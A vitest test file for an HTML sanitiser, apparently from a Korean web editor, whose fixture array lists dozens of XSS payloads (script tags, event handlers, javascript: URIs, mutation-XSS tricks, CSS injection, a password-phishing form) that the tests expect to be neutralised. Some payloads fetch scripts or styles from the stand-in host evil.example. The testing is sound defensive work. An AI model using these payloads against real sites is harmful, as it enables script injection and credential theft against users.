import { describe, expect, it } from "vitest";
import { isBlank, sanitizeBody } from "./html.ts";

/** One of each family: what runs script, what fetches, what clobbers, what breaks out. */
const ATTACKS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>alert(1)</script >`,
  `<<script>alert(1)//<</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(1)" / >`,
  `<img src=/uploads/a.webp onload=alert(1)>`,
  `<img/src=x/onerror=alert(1)//`,
  `<img src="//evil.example/pixel.gif">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img srcset="https://evil.example/x 2x" src="/uploads/a.webp">`,
  `<img src="/uploads/../api/users/my">`,
  `<img src="/uploads/a.webp?onerror=alert(1)">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>눌러</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math href="javascript:alert(1)">눌러</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<a href="javascript:alert(1)">눌러</a>`,
  `<a href="JaVaScRiPt:alert(1)">눌러</a>`,
  `<a href=" &#14;  javascript:alert(1)">눌러</a>`,
  `<a href="java\nscript:alert(1)">눌러</a>`,
  `<a href="java&Tab;script&colon;alert(1)">눌러</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">눌러</a>`,
  `<a href="vbscript:msgbox(1)">눌러</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">눌러</a>`,
  `<a href="blob:https://evil.example/1">눌러</a>`,
  `<a href="https://ok.example" onclick="alert(1)">눌러</a>`,
  `<a href="https://ok.example" style="position:fixed;inset:0">눌러</a>`,
  `<a href='https://ok.example/"onmouseover="alert(1)'>눌러</a>`,
  `<a id=body name=cookie href="https://ok.example">눌러</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<applet code=x></applet>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url(https://evil.example)}</style>`,
  `<p style="background:url(https://evil.example/x)">글</p>`,
  `<p style="width:expression(alert(1))">글</p>`,
  `<span style="color:red;position:fixed;top:0">글</span>`,
  `<span style="color:url(javascript:alert(1))">글</span>`,
  `<span style="background-color:var(--x);color:red}</style><img src=x onerror=alert(1)>">글</span>`,
  `<span style="font-family:'x;behavior:url(#x)">글</span>`,
  `<p class="fixed evil ql-align-center">글</p>`,
  `<p onfocus=alert(1) tabindex=0 autofocus contenteditable>글</p>`,
  `<form action="https://evil.example"><input name=password><button>로그인</button></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<select><option><img src=x onerror=alert(1)></select>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<marquee onstart=alert(1)>글</marquee>`,
  `<body onload=alert(1)>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
  `<x onclick=alert(1)>글</x>`,
  `<p/onclick=alert(1)>글`,
  `<p "><img src=x onerror=alert(1)>">글`,
  `<b <script>alert(1)</script>0`,
  `\0<scr\0ipt>alert(1)</scr\0ipt>`,
  `<ol start="1 onclick=alert(1)" type="javascript:">`,
  `<li value="javascript:alert(1)" style="list-style:url(javascript:alert(1))">글`,
  `<slot name=x></slot><dialog open>글</dialog><portal src="https://evil.example"></portal>`,
];

const TAG = /<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g;
const TAGS = new Set("p br h1 h2 h3 blockquote ol ul li strong em u s span a img".split(" "));
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:)[^"]*$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow ugc$/,
  src: /^\/uploads\/[\w/-]+\.webp$/,
  alt: /^/,
  width: /^\d{1,4}$/,
  start: /^\d{1,4}$/,
  class: /^ql-(align|indent|size|font)-\w+$/,
  style: /^((color|background-color|font-size|font-family|text-align):[#\w(),. -]+;?)+$/,
};

/** Fails on anything but the allowed tags with the allowed attributes and plain text. */
function expectHarmless(html: string): void {
  expect(html.replace(TAG, ""), html).not.toMatch(/[<>]/);
  for (const [, tag = "", attributes = ""] of html.matchAll(TAG)) {
    expect(TAGS, html).toContain(tag);
    for (const [, name = "", value = ""] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      expect(Object.keys(ATTRIBUTES), html).toContain(name);
      expect(value, html).toMatch(ATTRIBUTES[name] ?? /^$/);
    }
  }
}

describe("the sanitiser", () => {
  it.each(ATTACKS.map((attack) => [attack]))("disarms %s", (attack) => {
    for (const html of [attack, `<p>앞 ${attack} 뒤</p>`, `<ul><li>${attack}</li></ul>`]) {
      const kept = sanitizeBody(html);
      expectHarmless(kept);
      expect(sanitizeBody(kept)).toBe(kept);
    }
  });

  it.each([
    `<h1>하나</h1><h2>둘</h2><h3>셋</h3><p>본문<br />줄</p>`,
    `<p><strong>굵게</strong> <em>기울임</em> <u>밑줄</u> <s>취소</s></p>`,
    `<blockquote><p>인용</p></blockquote>`,
    `<ol start="3"><li><p>셋</p></li></ol><ul><li>점<ul><li>안쪽</li></ul></li></ul>`,
    `<p style="text-align:center">가운데</p>`,
    `<p><span style="color:#1b66ff;background-color:rgb(255, 255, 0);font-size:18px;font-family:serif">색</span></p>`,
    `<p class="ql-align-center ql-indent-2"><span class="ql-size-large ql-font-serif">퀼</span></p>`,
    `<p><img src="/uploads/post/ab-12.webp" alt="한강" width="320" /></p>`,
    `<p>3 &lt; 5 &amp; 7 &gt; 6, “따옴표” 😀</p>`,
  ])("keeps %s", (html) => expect(sanitizeBody(html)).toBe(html));

  it.each(["https://example.com/a?b=1&amp;c=2", "http://example.com", "mailto:a@example.com", "tel:010-0000-0000"])(
    "keeps a link to %s and lets it lead out of the page",
    (href) => {
      expect(sanitizeBody(`<a href="${href}">링크</a>`)).toBe(
        `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow ugc">링크</a>`,
      );
    },
  );

  it.each(["/posts/1", "ftp://example.com", "", "#", "www.example.com"])("blanks a link to %s", (href) => {
    expect(sanitizeBody(`<a href="${href}">링크</a>`)).toBe("<a>링크</a>");
  });

  it("turns other names of the same format into one", () => {
    expect(sanitizeBody("<div><b>가</b><i>나</i><del>다</del><strike>라</strike></div>")).toBe(
      "<p><strong>가</strong><em>나</em><s>다</s><s>라</s></p>",
    );
  });

  it("gets to the end of what is nested thousands of times", () => {
    expect(sanitizeBody(`${"<blockquote>".repeat(8_000)}끝`)).toContain("끝");
    expect(sanitizeBody("<p".repeat(30_000))).not.toContain("<p<p");
  });
});

describe("blank", () => {
  it.each(["", "<p></p>", "<p>&nbsp; \u200b</p>", "<p><br /></p>", "<ul><li></li></ul>"])("is %j", (html) =>
    expect(isBlank(sanitizeBody(html))).toBe(true),
  );
  it.each(["<p>가</p>", "<p>0</p>", `<img src="/uploads/a.webp" alt="" />`])("is not %j", (html) =>
    expect(isBlank(sanitizeBody(html))).toBe(false),
  );
});
